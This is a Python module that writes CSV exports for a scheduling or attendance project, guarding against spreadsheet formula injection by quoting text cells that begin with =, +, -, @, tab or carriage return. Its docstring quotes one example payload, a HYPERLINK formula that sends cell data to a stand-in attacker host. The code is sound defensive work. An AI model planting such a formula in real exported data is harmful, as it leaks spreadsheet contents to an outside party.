"""CSV that a spreadsheet opens safely: the one CSV writer of the project.

Every CSV we hand out (analytics, attendance months, no-shows, ``ikn export``) ends up
in Excel or LibreOffice, which run a cell starting with ``=``, ``+``, ``-`` or ``@``
(or a tab or carriage return before one) as a formula: a person, agency or unit named
``=HYPERLINK("https://evil.example?"&A1, "x")`` would send the sheet's data away. So,
after OWASP's "CSV Injection" rule, a text cell starting with one of those characters
is prefixed with a single quote, which spreadsheets show as text and do not display.
A text cell already starting with a quote gets one more, so that ``unquote_cell``
gives every value back exactly (``ikn import`` of an export changes nothing).

Numbers stay numbers: only ``str`` values are quoted, so ``-3`` late minutes is
written as ``-3``, while a *name* ``-3`` becomes ``'-3``.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: object) -> object:
    """``value`` as a spreadsheet will not run it: text starting like a formula (or
    with our quote) gets a leading quote; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith((*FORMULA_STARTS, QUOTE)):
        return QUOTE + value
    return value


def unquote_cell(text: str) -> str:
    """The value ``safe_cell`` quoted: one leading quote removed."""
    return text[1:] if text.startswith(QUOTE) else text


def csv_text(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """A header of ``columns``, then ``rows`` (in the columns' order), every cell safe.
    ``None`` is written as an empty cell. Lines end in CRLF, as RFC 4180 has it: the
    csv module quotes a cell holding a character of the line terminator, so a CR or LF
    inside a name is kept inside its quoted cell (with ``\n`` alone, a bare CR was
    written unquoted, and a spreadsheet started a new row there)."""
    return csv_lines([columns]) + csv_lines(rows)


def csv_lines(rows: Iterable[Sequence[object]]) -> str:
    """``rows`` as CSV lines with no header (a part of a longer file), every cell safe."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([("" if v is None else safe_cell(v)) for v in row] for row in rows)
    return out.getvalue()


def dict_rows(
    columns: Sequence[str], rows: Iterable[Mapping[str, object]]
) -> Iterable[list[object]]:
    """Mapping rows as sequences in ``columns``' order (missing keys: empty)."""
    return ([row.get(c) for c in columns] for row in rows)
